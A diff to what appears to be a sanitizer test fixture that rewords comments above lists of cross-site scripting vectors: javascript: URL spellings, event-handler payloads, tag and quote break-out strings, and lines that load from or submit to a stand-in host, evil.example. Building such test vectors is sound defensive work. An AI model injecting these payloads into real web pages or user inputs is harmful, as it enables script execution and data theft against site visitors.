@@ -1,4 +1,4 @@
-/** Texts that would run, navigate or fetch if a page took them for more than text. */
+/** Texts that would run a script, navigate or fetch if a page rendered them as HTML. */
 const SPELLINGS = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -163,19 +163,19 @@ const COMPLETE_ATTACKS = [
   '<div>'.repeat(400) + '<img src=x onerror=alert(1)>',
   '<a href=/x>'.repeat(30),
 ];
-/** Formatted texts with something harmful in each. */
+/** Rich texts, each with one harmful construct. */
 export const RICH_VECTORS: readonly string[] = [
   ...SPELLINGS.flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}" alt="x">`]),
   ...EVENTS.map((event) => `<img src="/storage/a.png" ${event}="alert(1)">`),
   ...COMPLETE_ATTACKS,
 ];
 
-/** What text breaks out of before it harms: an attribute, an element, a comment, a script, a template. */
+/** Constructs that a text breaks out of: an attribute, an element, a comment, a script, a template. */
 const WAYS_OUT = [
   ...['', '">', "'>", '`>', '" ', "' ", '</textarea>', '</title>', '</style>', '</script>', '</option></select>'],
   ...['-->', ']]>', '*/', '\\"-', '</svg>', '</td></tr></table>', '&quot;>', '\u2028'],
 ];
-/** Each marks the page it runs in, whatever hears of it. */
+/** Payloads, each of which marks the page when it runs. */
 const HARMFUL_ADDRESSES = [
   '<img src=x onerror=alert(1)>',
   '<svg/onload=alert(1)>',
@@ -194,10 +194,10 @@ const HARMFUL_ADDRESSES = [
   '<style>@import "//evil.example/x"</style>',
   '<form action=//evil.example><button autofocus>x</button></form>',
 ];
-/** Plain texts, each another way out with another harm. */
+/** Plain texts that combine one construct with one payload each. */
 export const TEXT_VECTORS: readonly string[] = WAYS_OUT.flatMap((out) => HARMFUL_ADDRESSES.map((harm) => out + harm));
 
-/** What a menu rule could be made to open or show. */
+/** Addresses that a menu rule could be made to open or show. */
 export const ADDRESS_VECTORS: readonly string[] = [
   ...SPELLINGS,
   ...['javascript', 'data', 'vbscript', 'blob', 'file', 'about', 'ftp', 'view-source', 'ws', 'intent'].flatMap(
